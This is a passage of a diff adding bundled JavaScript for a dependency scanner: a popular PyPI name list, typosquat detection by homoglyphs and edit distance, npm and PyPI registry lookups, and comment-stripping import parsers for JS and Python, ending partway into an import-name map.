+const pypi_namespaceObject = /*#__PURE__*/JSON.parse('{"Dy":["boto3","botocore","urllib3","requests","setuptools","certifi","charset-normalizer","idna","typing-extensions","python-dateutil","s3transfer","packaging","six","aiobotocore","numpy","s3fs","fsspec","pyyaml","pip","grpcio-status","cryptography","pydantic","cffi","pycparser","attrs","google-api-core","pandas","importlib-metadata","zipp","protobuf","jmespath","pydantic-core","rsa","pyasn1","click","markupsafe","jinja2","platformdirs","pytz","wheel","annotated-types","filelock","tomli","h11","anyio","sniffio","pluggy","pytest","googleapis-common-protos","cachetools","google-auth","iniconfig","virtualenv","pyasn1-modules","jsonschema","wrapt","aiohttp","multidict","yarl","frozenlist","aiosignal","async-timeout","sqlalchemy","greenlet","requests-oauthlib","oauthlib","psutil","pyjwt","tzdata","grpcio","httpx","httpcore","docutils","pygments","exceptiongroup","colorama","decorator","soupsieve","beautifulsoup4","pyarrow","scipy","tomlkit","werkzeug","flask","itsdangerous","blinker","pyparsing","pillow","openpyxl","et-xmlfile","lxml","isodate","more-itertools","tqdm","distlib","coverage","rich","markdown-it-py","mdurl","pyopenssl","azure-core","azure-storage-blob","azure-identity","msal","msal-extensions","portalocker","proto-plus","google-cloud-storage","google-cloud-core","google-resumable-media","google-crc32c","google-cloud-bigquery","google-cloud-pubsub","google-cloud-secret-manager","google-api-python-client","google-auth-oauthlib","google-auth-httplib2","httplib2","uritemplate","deprecated","regex","scikit-learn","joblib","threadpoolctl","matplotlib","kiwisolver","cycler","fonttools","contourpy","python-dotenv","requests-toolbelt","pyrsistent","referencing","jsonschema-specifications","rpds-py","sortedcontainers","psycopg2-binary","psycopg2","psycopg","asyncpg","pymysql","mysqlclient","mysql-connector-python","pymongo","motor","redis","celery","kombu","billiard","vine","amqp","dnspython","fastapi","starlette","uvicorn","gunicorn","websockets","python-multipart","email-validator","jsonpointer","jsonpatch","tabulate","termcolor","typer","shellingham","toml","gitpython","gitdb","smmap","pexpect","ptyprocess","ipython","ipykernel","jupyter","jupyter-client","jupyter-core","jupyterlab","notebook","nbformat","nbconvert","traitlets","tornado","pyzmq","prompt-toolkit","wcwidth","jedi","parso","matplotlib-inline","stack-data","executing","asttokens","pure-eval","debugpy","nest-asyncio","comm","black","mypy","mypy-extensions","pathspec","isort","flake8","pycodestyle","pyflakes","mccabe","pylint","astroid","ruff","pre-commit","identify","cfgv","nodeenv","tox","nox","pytest-cov","pytest-mock","pytest-xdist","pytest-asyncio","pytest-timeout","pytest-django","pytest-runner","execnet","mock","hypothesis","faker","factory-boy","freezegun","responses","requests-mock","moto","sqlparse","django","djangorestframework","django-cors-headers","django-filter","django-environ","django-extensions","django-storages","django-redis","django-celery-beat","django-debug-toolbar","channels","asgiref","whitenoise","dj-database-url","flask-cors","flask-sqlalchemy","flask-login","flask-wtf","flask-migrate","flask-restful","wtforms","alembic","mako","marshmallow","marshmallow-sqlalchemy","peewee","tortoise-orm","sqlmodel","pydantic-settings","uvloop","httptools","watchfiles","python-jose","passlib","bcrypt","argon2-cffi","pycryptodome","pycryptodomex","pynacl","paramiko","fabric","invoke","scp","ansible","ansible-core","docker","kubernetes","boto","awscli","aws-requests-auth","aws-xray-sdk","aws-lambda-powertools","sagemaker","azure-common","azure-mgmt-core","azure-mgmt-resource","azure-storage-file-datalake","azure-keyvault-secrets","azure-cosmos","azure-functions","google-cloud-aiplatform","google-cloud-logging","google-cloud-firestore","google-cloud-datastore","google-cloud-dataproc","google-cloud-spanner","firebase-admin","snowflake-connector-python","snowflake-sqlalchemy","databricks-sdk","databricks-sql-connector","pyspark","py4j","delta-spark","apache-airflow","apache-beam","dbt-core","great-expectations","dask","distributed","polars","duckdb","xlrd","xlsxwriter","xlwt","tables","h5py","netcdf4","xarray","statsmodels","patsy","seaborn","plotly","bokeh","altair","dash","streamlit","gradio","panel","holoviews","networkx","sympy","mpmath","numba","llvmlite","cython","pybind11","numexpr","bottleneck","scikit-image","imageio","opencv-python","opencv-python-headless","opencv-contrib-python","tifffile","shapely","pyproj","geopandas","fiona","rasterio","folium","torch","torchvision","torchaudio","tensorflow","tensorflow-estimator","tensorboard","tensorboard-data-server","keras","jax","jaxlib","flax","optax","onnx","onnxruntime","transformers","tokenizers","huggingface-hub","safetensors","datasets","accelerate","diffusers","sentence-transformers","sentencepiece","tiktoken","openai","anthropic","langchain","langchain-core","langchain-community","langchain-openai","langsmith","llama-index","chromadb","faiss-cpu","pinecone-client","qdrant-client","weaviate-client","cohere","google-generativeai","mistralai","ollama","litellm","spacy","nltk","gensim","textblob","thinc","xgboost","lightgbm","catboost","optuna","mlflow","wandb","ray","pytorch-lightning","lightning","torchmetrics","einops","timm","albumentations","shap","lime","imbalanced-learn","category-encoders","prophet","pmdarima","yfinance","ta-lib","ccxt","web3","eth-account","selenium","playwright","pyppeteer","scrapy","twisted","zope-interface","service-identity","hyperlink","incremental","automat","constantly","parsel","w3lib","cssselect","itemadapter","queuelib","requests-html","html5lib","webencodings","bleach","markdown","mistune","ruamel-yaml","jsonpickle","orjson","ujson","simplejson","msgpack","cbor2","avro","fastavro","thrift","grpcio-tools","marshmallow-enum","cattrs","dacite","dataclasses-json","typing-inspect","typeguard","beartype","pyright","types-requests","types-pyyaml","types-python-dateutil","types-setuptools","types-urllib3","types-pytz","types-redis","types-six","loguru","structlog","python-json-logger","sentry-sdk","prometheus-client","opentelemetry-api","opentelemetry-sdk","opentelemetry-exporter-otlp","datadog","ddtrace","newrelic","statsd","schedule","apscheduler","croniter","arrow","pendulum","humanize","babel","python-slugify","text-unidecode","unidecode","inflection","chardet","ftfy","emoji","phonenumbers","validators","pycountry","iso8601","tzlocal","dateparser","pywin32","pywin32-ctypes","pyinstaller","pyinstaller-hooks-contrib","cx-freeze","py2exe","setuptools-scm","hatchling","flit-core","poetry","poetry-core","pdm","pdm-backend","build","twine","pkginfo","readme-renderer","keyring","jaraco-classes","jeepney","secretstorage","importlib-resources","backports-zoneinfo","zope-event","gevent","eventlet","aiofiles","aiosqlite","aioredis","aio-pika","trio","curio","sh","plumbum","pyperclip","pyautogui","pynput","keyboard","pygame","pyglet","kivy","pyqt5","pyqt6","pyside6","wxpython","pysimplegui","reportlab","pypdf","pypdf2","pdfminer-six","pdfplumber","pymupdf","python-docx","python-pptx","docx2txt","xmltodict","defusedxml","untangle","pyserial","pyusb","pybluez","paho-mqtt","pika","confluent-kafka","kafka-python","nats-py","zmq","websocket-client","python-socketio","python-engineio","flask-socketio","requests-aws4auth","pysftp","ftputil","smbprotocol","ldap3","python-ldap","pysaml2","python3-saml","authlib","oauth2client","social-auth-core","cachelib","diskcache","pylru","dogpile-cache","pymemcache","python-memcached","elasticsearch","opensearch-py","cassandra-driver","neo4j","py2neo","clickhouse-driver","clickhouse-connect","influxdb-client","pyodbc","cx-oracle","oracledb","ibm-db","teradatasql","sqlalchemy-utils","databases","psycopg-binary","psycopg-pool","asyncmy","aiomysql","tenacity","backoff","retrying","ratelimit","pyrate-limiter","slowapi","limits","cerberus","voluptuous","schema","jsonref","pyhcl","hvac","python-gnupg","gnupg","pgpy","ecdsa","pyotp","qrcode","python-magic","filetype","puremagic","python-levenshtein","levenshtein","rapidfuzz","fuzzywuzzy","thefuzz","jellyfish","textdistance","editdistance","pyahocorasick","zstandard","lz4","brotli","python-snappy","py7zr","rarfile","patool","pyzipper","click-plugins","cligj","click-log","colorlog","coloredlogs","humanfriendly","alive-progress","halo","yaspin","blessed","urwid","npyscreen","asciimatics","art","pyfiglet","prettytable","texttable","terminaltables","docopt","fire","configargparse","configparser","python-decouple","environs","dynaconf","hydra-core","omegaconf","jsonargparse","simple-parsing","sphinx","sphinx-rtd-theme","sphinxcontrib-applehelp","alabaster","imagesize","snowballstemmer","mkdocs","mkdocs-material","pymdown-extensions","mkdocstrings","pdoc","jupyter-server","jupyterlab-server","ipywidgets","widgetsnbextension","nbclient","bandit","safety","pip-audit","semgrep","checkov","detect-secrets","pyupgrade","autopep8","yapf","pydocstyle","darglint","vulture","radon","xenon","locust","pytest-benchmark","pytest-html","pytest-rerunfailures","pytest-env","pytest-sugar","allure-pytest","behave","robotframework","selenium-wire","webdriver-manager","undetected-chromedriver","appium-python-client","uiautomator2","pywinauto","lief","capstone","unicorn","keystone-engine","pwntools","scapy","impacket","pyshark","netaddr","ipaddress","netifaces","ifaddr","zeroconf","dnslib","python-nmap","shodan","censys","requests-ntlm","ntlm-auth","pyspnego","kerberos","requests-kerberos","gssapi","pykerberos","win32-setctime","wmi","comtypes","pythonnet","jpype1","py-cpuinfo","gputil","nvidia-ml-py","pynvml"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/typosquat.ts
+
+/** A popular name this long may be one edit away from a squat; from the second length on, two. */
+const ONE_EDIT_MIN_LENGTH = 5;
+const TWO_EDITS_MIN_LENGTH = 10;
+const SKELETON_MIN_LENGTH = 4;
+/**
+ * Characters people (and models) confuse when reading or retyping a name. npm names are lower case, so
+ * only PyPI (which folds case, making `jeIlyfish` the project `jeilyfish`) also confuses `i` with `l`.
+ */
+const HOMOGLYPHS = {
+    npm: [
+        [/rn/g, 'm'],
+        [/vv/g, 'w'],
+        [/1/g, 'l'],
+        [/0/g, 'o'],
+    ],
+    pypi: [
+        [/rn/g, 'm'],
+        [/vv/g, 'w'],
+        [/[1i]/g, 'l'],
+        [/0/g, 'o'],
+    ],
+};
+function canonicalName(name, ecosystem) {
+    return ecosystem === 'pypi' ? normalizePypiName(name) : name.toLowerCase();
+}
+function withoutSeparators(name) {
+    return name.replace(/[-_./@]/g, '');
+}
+function skeleton(name, ecosystem) {
+    return HOMOGLYPHS[ecosystem].reduce((text, [pattern, replacement]) => text.replace(pattern, replacement), withoutSeparators(name));
+}
+function popularIndex(ecosystem, names) {
+    const canonical = names.map((name) => canonicalName(name, ecosystem));
+    const bySkeleton = new Map();
+    for (const name of canonical) {
+        const shape = skeleton(name, ecosystem);
+        if (!bySkeleton.has(shape))
+            bySkeleton.set(shape, name);
+    }
+    const scopes = new Set(canonical.flatMap((name) => (name.startsWith('@') ? [name.split('/')[0] ?? ''] : [])));
+    const byLength = new Map();
+    for (const name of canonical.filter((candidate) => !candidate.startsWith('@'))) {
+        byLength.set(name.length, [...(byLength.get(name.length) ?? []), name]);
+    }
+    return { ecosystem, names: canonical, known: new Set(canonical), scopes, bySkeleton, byLength };
+}
+/**
+ * Optimal string alignment distance (Levenshtein plus adjacent transpositions). With a `limit`, only the
+ * diagonal band that can stay within it is computed, and any answer above the limit means "too far".
+ */
+function editDistance(a, b, limit = Number.POSITIVE_INFINITY) {
+    if (Math.abs(a.length - b.length) > limit)
+        return limit + 1;
+    const width = Number.isFinite(limit) ? limit : Math.max(a.length, b.length);
+    const far = a.length + b.length + 1;
+    let before = new Int32Array(b.length + 1).fill(far);
+    let previous = Int32Array.from({ length: b.length + 1 }, (_, j) => (j <= width ? j : far));
+    let current = new Int32Array(b.length + 1);
+    for (let i = 1; i <= a.length; i += 1) {
+        current.fill(far);
+        if (i <= width)
+            current[0] = i;
+        let rowMinimum = current[0] ?? far;
+        for (let j = Math.max(1, i - width); j <= Math.min(b.length, i + width); j += 1) {
+            const cost = a.charCodeAt(i - 1) === b.charCodeAt(j - 1) ? 0 : 1;
+            let value = Math.min((previous[j] ?? far) + 1, (current[j - 1] ?? far) + 1, (previous[j - 1] ?? far) + cost);
+            if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) {
+                value = Math.min(value, (before[j - 2] ?? far) + 1);
+            }
+            current[j] = value;
+            rowMinimum = Math.min(rowMinimum, value);
+        }
+        if (rowMinimum > limit)
+            return limit + 1;
+        [before, previous, current] = [previous, current, before];
+    }
+    return previous[b.length] ?? far;
+}
+function isTransposition(a, b) {
+    if (a.length !== b.length)
+        return false;
+    const differ = [];
+    for (let index = 0; index < a.length; index += 1)
+        if (a[index] !== b[index])
+            differ.push(index);
+    const [first, second] = differ;
+    return (differ.length === 2 &&
+        first !== undefined &&
+        second === first + 1 &&
+        a[first] === b[second] &&
+        a[second] === b[first]);
+}
+/**
+ * The segments (between `-`, `_`, `.`, `/`) of `target` that `name` changes. `lodash.get` and `lodash.set`
+ * differ only in a three-letter word, which makes them different packages, not a typo of one another.
+ */
+function changedSegments(name, target) {
+    let prefix = 0;
+    while (prefix < Math.min(name.length, target.length) && name[prefix] === target[prefix])
+        prefix += 1;
+    let suffix = 0;
+    const most = Math.min(name.length, target.length) - prefix;
+    while (suffix < most && name[name.length - 1 - suffix] === target[target.length - 1 - suffix])
+        suffix += 1;
+    const separators = /[-_./]/;
+    let start = prefix;
+    while (start > 0 && !separators.test(target[start - 1] ?? ''))
+        start -= 1;
+    let end = target.length - suffix;
+    while (end < target.length && !separators.test(target[end] ?? ''))
+        end += 1;
+    return target.slice(start, Math.max(start, end));
+}
+/** Edits allowed away from a popular name (or the part of it that changed), by its length. */
+function allowedEdits(target) {
+    if (target.length >= TWO_EDITS_MIN_LENGTH)
+        return 2;
+    return target.length >= ONE_EDIT_MIN_LENGTH ? 1 : 0;
+}
+function bySkeleton(name, index) {
+    const shape = skeleton(name, index.ecosystem);
+    const target = shape.length >= SKELETON_MIN_LENGTH ? index.bySkeleton.get(shape) : undefined;
+    if (target === undefined || target === name)
+        return undefined;
+    const bothScoped = name.startsWith('@') && target.startsWith('@');
+    const sameBase = name.split('/')[1] === target.split('/')[1];
+    if (name.startsWith('@') !== target.startsWith('@') || (bothScoped && sameBase))
+        return { target, kind: 'scope' };
+    if (withoutSeparators(name) === withoutSeparators(target))
+        return { target, kind: 'separator' };
+    // One look-alike letter in a short name is a different word more often than a disguise.
+    return target.length >= ONE_EDIT_MIN_LENGTH ? { target, kind: 'homoglyph' } : undefined;
+}
+/** `@scope/x` imitating `@other/x` (a scope one edit away), or the popular unscoped `x` as `@x/x`. */
+function byScope(name, index) {
+    const [scope = '', base = ''] = name.split('/');
+    if (!name.startsWith('@') || base === '')
+        return undefined;
+    for (const target of index.names) {
+        const [targetScope = '', targetBase = ''] = target.split('/');
+        if (target.startsWith('@') &&
+            targetBase === base &&
+            scope !== targetScope &&
+            allowedEdits(targetScope.slice(1)) > 0 &&
+            editDistance(scope, targetScope, 1) <= 1) {
+            return { target, kind: 'scope' };
+        }
+    }
+    const bare = scope.slice(1);
+    return index.known.has(base) && bare === base ? { target: base, kind: 'scope' } : undefined;
+}
+/** Unscoped names against unscoped names: the closest popular name within the allowed edits. */
+function byEdits(name, index) {
+    if (name.startsWith('@'))
+        return undefined;
+    let best;
+    for (let length = name.length - 2; length <= name.length + 2; length += 1) {
+        for (const target of index.byLength.get(length) ?? []) {
+            const allowed = allowedEdits(changedSegments(name, target));
+            if (allowed === 0)
+                continue;
+            const distance = editDistance(name, target, allowed);
+            if (distance <= allowed && (best === undefined || distance < best.distance))
+                best = { target, distance };
+        }
+    }
+    if (best === undefined)
+        return undefined;
+    return { target: best.target, kind: isTransposition(name, best.target) ? 'transposition' : 'edit' };
+}
+/**
+ * Whether `name` looks like a mistyped or deliberately confusable variant of a popular package. A name
+ * that is itself popular never is; short names are left alone, since one edit turns `ms` into dozens of
+ * unrelated real packages.
+ */
+function likelyTyposquat(name, index) {
+    const canonical = canonicalName(name, index.ecosystem);
+    if (index.known.has(canonical))
+        return undefined;
+    // Only a scope's owner can publish under it, so a name under a popular scope cannot be a squat.
+    if (index.scopes.has(canonical.split('/')[0] ?? ''))
+        return undefined;
+    return bySkeleton(canonical, index) ?? byScope(canonical, index) ?? byEdits(canonical, index);
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/popular.ts
+
+
+
+/** The shipped popular-name lists (see data/popular-packages/README.md), indexed once. */
+const POPULAR = {
+    npm: popularIndex('npm', npm_namespaceObject.Dy),
+    pypi: popularIndex('pypi', pypi_namespaceObject.Dy),
+};
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/registry.ts
+function isRecord(value) {
+    return typeof value === 'object' && value !== null && !Array.isArray(value);
+}
+function parseJson(body) {
+    try {
+        return JSON.parse(body);
+    }
+    catch {
+        return undefined;
+    }
+}
+function dateOf(value) {
+    if (typeof value !== 'string')
+        return undefined;
+    const time = Date.parse(value);
+    return Number.isFinite(time) ? new Date(time) : undefined;
+}
+/** The registry's HTTP answer, with a 200 body read by `document`; hostile bodies become `unavailable`. */
+function interpret(result, document) {
+    if (result.kind === 'timeout')
+        return { kind: 'unavailable', reason: 'timed out' };
+    if (result.kind === 'network-error')
+        return { kind: 'unavailable', reason: result.message };
+    if (result.status === 404 || result.status === 410)
+        return { kind: 'missing' };
+    if (result.status !== 200)
+        return { kind: 'unavailable', reason: `HTTP ${result.status}` };
+    const body = parseJson(result.body);
+    return isRecord(body) ? document(body) : { kind: 'unavailable', reason: 'the answer is not a JSON object' };
+}
+/**
+ * `GET <registry>/<name>`, with a scope's slash encoded as npm itself sends it
+ * (https://github.com/npm/registry/blob/main/docs/REGISTRY-API.md#getpackage).
+ */
+function npmPackageUrl(registry, name) {
+    const base = registry.replace(/\/+$/, '');
+    const path = name.startsWith('@')
+        ? name
+            .split('/')
+            .map((part) => encodeURIComponent(part))
+            .join('%2f')
+        : encodeURIComponent(name);
+    return `${base}/${path.replace(/^%40/, '@')}`;
+}
+/** A packument: `time.created` is when the name was first published; `time.unpublished` means it is gone. */
+function readNpmAnswer(result) {
+    return interpret(result, (packument) => {
+        const time = isRecord(packument['time']) ? packument['time'] : {};
+        const versions = isRecord(packument['versions']) ? Object.keys(packument['versions']) : [];
+        if (time['unpublished'] !== undefined && versions.length === 0) {
+            return { kind: 'missing', detail: 'all of its versions were unpublished' };
+        }
+        const created = dateOf(time['created']);
+        return created === undefined ? { kind: 'found' } : { kind: 'found', created };
+    });
+}
+/** `GET <pypi>/pypi/<name>/json` (https://docs.pypi.org/api/json/). */
+function pypiProjectUrl(pypi, normalizedName) {
+    return `${pypi.replace(/\/+$/, '')}/pypi/${encodeURIComponent(normalizedName)}/json`;
+}
+function earliestUpload(files) {
+    let earliest;
+    for (const file of files) {
+        const uploaded = isRecord(file) ? dateOf(file['upload_time_iso_8601']) : undefined;
+        if (uploaded !== undefined && (earliest === undefined || uploaded < earliest))
+            earliest = uploaded;
+    }
+    return earliest;
+}
+/** A PyPI project: its first upload is the earliest `upload_time_iso_8601` of any file of any release. */
+function readPypiAnswer(result) {
+    return interpret(result, (project) => {
+        const releases = isRecord(project['releases']) ? Object.values(project['releases']) : [];
+        const files = releases.flatMap((release) => (Array.isArray(release) ? release : []));
+        if (Array.isArray(project['urls']))
+            files.push(...project['urls']);
+        const created = earliestUpload(files);
+        return created === undefined ? { kind: 'found' } : { kind: 'found', created };
+    });
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/registry-plan.ts
+
+
+
+
+function npmPlan(declaration, settings) {
+    const name = declaration.registryName;
+    const scope = name.startsWith('@') ? (name.split('/')[0] ?? '').toLowerCase() : undefined;
+    const scoped = scope === undefined ? undefined : settings.scopeRegistries.get(scope);
+    if (scoped === '')
+        return { declaration, isPublic: false };
+    const registry = scoped ?? settings.npmRegistry;
+    const request = {
+        key: `npm\u0000${registry}\u0000${name}`,
+        url: npmPackageUrl(registry, name),
+        registry,
+        read: readNpmAnswer,
+    };
+    return { declaration, request, isPublic: scoped === undefined };
+}
+function pypiPlan(declaration, settings) {
+    const name = normalizePypiName(declaration.registryName);
+    const request = {
+        key: `pypi\u0000${name}`,
+        url: pypiProjectUrl(settings.pypiUrl, name),
+        registry: settings.pypiUrl,
+        read: readPypiAnswer,
+    };
+    return { declaration, request, isPublic: true };
+}
+/**
+ * Only registry packages are looked up; the popular names are known to exist and to be old, and asking
+ * for them would only fetch some of the largest documents the registries serve.
+ */
+function planLookup(declaration, settings) {
+    if (declaration.source !== 'registry')
+        return { declaration, isPublic: false };
+    const plan = declaration.ecosystem === 'npm' ? npmPlan(declaration, settings) : pypiPlan(declaration, settings);
+    const popular = POPULAR[declaration.ecosystem].known.has(canonicalName(declaration.registryName, declaration.ecosystem));
+    return popular && plan.isPublic ? { declaration, isPublic: true } : plan;
+}
+
+;// CONCATENATED MODULE: external "node:module"
+const external_node_module_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:module");
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/blank-comments.ts
+/**
+ * Source text with comments (and, for Python, string contents) replaced by spaces. Offsets and line
+ * breaks are preserved, so positions found in the result are positions in the original. This is a
+ * scanner, not a parser: it only has to keep `import` in a comment or a docstring from counting.
+ */
+function blank(text) {
+    return text.replace(/[^\n]/g, ' ');
+}
+/**
+ * JavaScript/TypeScript: `//` and `/* *\/` comments become spaces. String and template literals are kept,
+ * or, with `strings`, keep only their quotes.
+ */
+function blankJsComments(text, strings = false) {
+    let out = '';
+    let index = 0;
+    while (index < text.length) {
+        const char = text[index];
+        const next = text[index + 1];
+        let end;
+        if (char === '/' && next === '/') {
+            end = text.indexOf('\n', index);
+            end = end === -1 ? text.length : end;
+            out += blank(text.slice(index, end));
+        }
+        else if (char === '/' && next === '*') {
+            end = text.indexOf('*/', index + 2);
+            end = end === -1 ? text.length : end + 2;
+            out += blank(text.slice(index, end));
+        }
+        else if (char === '"' || char === "'" || char === '`') {
+            end = stringEnd(text, index, char);
+            const literal = text.slice(index, end);
+            out += strings ? char + blank(literal.slice(1, -1)) + literal.slice(-1) : literal;
+        }
+        else {
+            end = nextSpecial(text, index + 1, /[/"'`]/g);
+            out += text.slice(index, end);
+        }
+        index = end;
+    }
+    return out;
+}
+/** The next offset at or after `from` where `pattern` (global) matches, or the end of the text. */
+function nextSpecial(text, from, pattern) {
+    pattern.lastIndex = from;
+    return pattern.exec(text)?.index ?? text.length;
+}
+/** The offset after the string starting at `start`; a quote string also ends at a line break. */
+function stringEnd(text, start, quote) {
+    let index = start + 1;
+    while (index < text.length) {
+        const char = text[index];
+        if (char === '\\')
+            index += 2;
+        else if (char === quote)
+            return index + 1;
+        else if (char === '\n' && quote !== '`')
+            return index;
+        else
+            index += 1;
+    }
+    return text.length;
+}
+/** Python: `#` comments and the contents of every string literal (docstrings included) become spaces. */
+function blankPythonCommentsAndStrings(text) {
+    let out = '';
+    let index = 0;
+    while (index < text.length) {
+        const char = text[index] ?? '';
+        let end;
+        if (char === '#') {
+            end = text.indexOf('\n', index);
+            end = end === -1 ? text.length : end;
+            out += blank(text.slice(index, end));
+        }
+        else if (char === '"' || char === "'") {
+            const triple = text.startsWith(char.repeat(3), index);
+            end = pythonStringEnd(text, index, triple ? char.repeat(3) : char);
+            out += blank(text.slice(index, end));
+        }
+        else {
+            end = nextSpecial(text, index + 1, /[#"']/g);
+            out += text.slice(index, end);
+        }
+        index = end;
+    }
+    return out;
+}
+function pythonStringEnd(text, start, quote) {
+    let index = start + quote.length;
+    while (index < text.length) {
+        if (text[index] === '\\')
+            index += 2;
+        else if (text.startsWith(quote, index))
+            return index + quote.length;
+        else if (text[index] === '\n' && quote.length === 1)
+            return index;
+        else
+            index += 1;
+    }
+    return text.length;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/imports.ts
+
+
+
+const JS_SOURCE = /\.(?:[cm]?[jt]sx?|vue|svelte)$/i;
+const PYTHON_SOURCE = /\.py$/i;
+const JS_PATTERNS = [
+    // import x from 'y', import {a, b} from 'y', import type T from 'y', import 'y'
+    /(?<![.\w$])import\s+(type\s+)?(?:[\w$*{}\s,]+?\s*from\s*)?(['"])([^'"\n]+)\2/dg,
+    /(?<![.\w$])export\s+(type\s+)?(?:\*(?:\s+as\s+[\w$]+)?|\{[^}]*\})\s*from\s*(['"])([^'"\n]+)\2/dg,
+    // import('y'), require('y'), require.resolve('y')
+    /(?<![.\w$])(import|require|require\.resolve)\s*\(\s*(['"`])([^'"`\n$]+)\2\s*[,)]/dg,
+];
+/** `x/y` → `x`, `@s/x/y` → `@s/x`; undefined for relative paths, URLs, `node:` and Node's own modules. */
+function packageOfSpecifier(specifier) {
+    if (/^[a-z][a-z0-9+.-]*:/i.test(specifier) || /^[./#~]/.test(specifier))
+        return undefined;
+    const parts = specifier.split('/');
+    const name = specifier.startsWith('@') ? parts.slice(0, 2).join('/') : (parts[0] ?? '');
+    if (specifier.startsWith('@') && parts.length < 2)
+        return undefined;
+    if ((0,external_node_module_namespaceObject.isBuiltin)(specifier) || (0,external_node_module_namespaceObject.isBuiltin)(name) || !isNpmName(name))
+        return undefined;
+    return name;
+}
+/** Bare-specifier imports of a JavaScript or TypeScript file (`import`, `export … from`, `import()`, `require`). */
+function jsImports(path, text) {
+    const code = blankJsComments(text);
+    // `import x from 'y'` inside a string (a code generator, a test) is not an import.
+    const outsideStrings = blankJsComments(text, true);
+    const lines = new LineIndex(text);
+    const declarationFile = /\.d\.[cm]?ts$/i.test(path);
+    const sites = [];
+    for (const pattern of JS_PATTERNS) {
+        for (const match of code.matchAll(pattern)) {
+            const specifier = match[3];
+            const at = match.indices?.[3]?.[0];
+            const module = specifier === undefined ? undefined : packageOfSpecifier(specifier);
+            if (module === undefined || at === undefined || specifier === undefined)
+                continue;
+            if (outsideStrings[match.index] !== code[match.index])
+                continue;
+            const typeOnly = declarationFile || match[1]?.trim() === 'type';
+            sites.push({ ecosystem: 'npm', module, path, region: lines.region(at, specifier.length), typeOnly });
+        }
+    }
+    return sites.sort((a, b) => a.region.startLine - b.region.startLine);
+}
+const PY_IMPORT = /^([ \t]*)import[ \t]+([^\n;]+)/dgm;
+const PY_FROM = /^([ \t]*)from[ \t]+(\.*)([A-Za-z_][\w.]*)?[ \t]+import\b/gm;
+const OPTIONAL_BLOCK = /^(?:try|except\b[^\n]*):[ \t]*$/;
+/**
+ * Whether an import on `line` (1-based), indented by `indent`, sits directly inside a `try:` or
+ * `except …:` block: `try: import ujson as json / except ImportError: import json` makes it optional.
+ */
+function isOptional(codeLines, line, indent) {
+    if (indent === 0)
+        return false;
+    for (let index = line - 2; index >= 0; index -= 1) {
+        const text = codeLines[index] ?? '';
+        if (text.trim() === '')
+            continue;
+        const lead = text.length - text.trimStart().length;
+        if (lead < indent)
+            return OPTIONAL_BLOCK.test(text.trim());
+    }
+    return false;
+}
+function pythonSite(path, lines, module, at) {
+    const top = module.split('.')[0] ?? module;
+    return { ecosystem: 'pypi', module: top, path, region: lines.region(at, top.length), typeOnly: false };
+}
+/** Absolute imports of a Python file; relative imports and optional (`try:`-guarded) imports are left out. */
+function pythonImports(path, text) {
+    const code = blankPythonCommentsAndStrings(text);
+    const codeLines = code.split('\n');
+    const lines = new LineIndex(text);
+    const optional = (offset, indent) => isOptional(codeLines, lines.position(offset).line, indent);
+    const sites = [];
+    for (const match of code.matchAll(PY_IMPORT)) {
+        const indent = (match[1] ?? '').length;
+        if (optional(match.index, indent))
+            continue;
+        let at = match.indices?.[2]?.[0] ?? match.index;
+        for (const part of (match[2] ?? '').split(',')) {
+            const name = /^\s*([A-Za-z_][\w.]*)/.exec(part);
+            if (name?.[1] !== undefined)
+                sites.push(pythonSite(path, lines, name[1], at + part.indexOf(name[1])));
+            at += part.length + 1;
+        }
+    }
+    for (const match of code.matchAll(PY_FROM)) {
+        const indent = (match[1] ?? '').length;
+        const module = match[3];
+        if ((match[2] ?? '') !== '' || module === undefined || optional(match.index, indent))
+            continue;
+        sites.push(pythonSite(path, lines, module, match.index + match[0].indexOf(module, indent + 4)));
+    }
+    return sites.sort((a, b) => a.region.startLine - b.region.startLine);
+}
+
+;// CONCATENATED MODULE: ./data/python-import-names.json
+const python_import_names_namespaceObject = /*#__PURE__*/JSON.parse('{"V":{"yaml":["PyYAML","ruamel.yaml"],"ruamel":["ruamel.yaml"],"cv2":["opencv-python","opencv-python-headless","opencv-contrib-python","opencv-contrib-python-headless"],"PIL":["Pillow","pillow-simd"],"sklearn":["scikit-learn"],"skimage":["scikit-image"],"bs4":["beautifulsoup4"],"dateutil":["python-dateutil"],"jwt":["PyJWT"],"jose":["python-jose"],"dotenv":["python-dotenv"],"multipart":["python-multipart"],"magic":["python-magic","python-magic-bin"],"docx":["python-docx"],"pptx":["python-pptx"],"socketio":["python-socketio"],"engineio":["python-engineio"],"telegram":["python-telegram-bot"],"slugify":["python-slugify"],"Levenshtein":["python-Levenshtein","Levenshtein"],"attr":["attrs"],"dns":["dnspython"],"git":["GitPython"],"serial":["pyserial"],"usb":["pyusb"],"zmq":["pyzmq"],"OpenSSL":["pyOpenSSL"],"Crypto":["pycryptodome","pycrypto"],"Cryptodome":["pycryptodomex"],"nacl":["PyNaCl"],"MySQLdb":["mysqlclient"],"mysql":["mysql-connector-python","mysql-connector"],"psycopg2":["psycopg2-binary","psycopg2"],"psycopg":["psycopg","psycopg-binary"],"pkg_resources":["setuptools"],"_pytest":["pytest"],"google":["protobuf","google-*","googleapis-common-protos","grpcio-status"],"googleapiclient":["google-api-python-client"],"grpc":["grpcio"],"grpc_tools":["grpcio-tools"],"azure":["azure-*"],"jaraco":["jaraco.*"],"zope":["zope.*","zope-*"],"backports":["backports.*","backports-*"],"sphinxcontrib":["sphinxcontrib-*"],"mpl_toolkits":["matplotlib"],"pylab":["matplotlib"],"win32api":["pywin32"],"win32con":["pywin32"],"win32com":["pywin32"],"pythoncom":["pywin32"],"pywintypes":["pywin32"],"win32gui":["pywin32"],"fitz":["PyMuPDF"],"pdfminer":["pdfminer.six"],"Image":["Pillow"],"markdown_it":["markdown-it-py"],"rest_framework":["djangorestframework"],"corsheaders":["django-cors-headers"],"django_filters":["django-filter"],"environ":["django-environ"],"debug_toolbar":["django-debug-toolbar"],"storages":["django-storages"],"decouple":["python-decouple"],"editor":["python-editor"],"gi":["PyGObject"],"wx":["wxPython"],"skbuild":["scikit-build"],"faiss":["faiss-cpu","faiss-gpu"],"tensorflow":["tensorflow","tens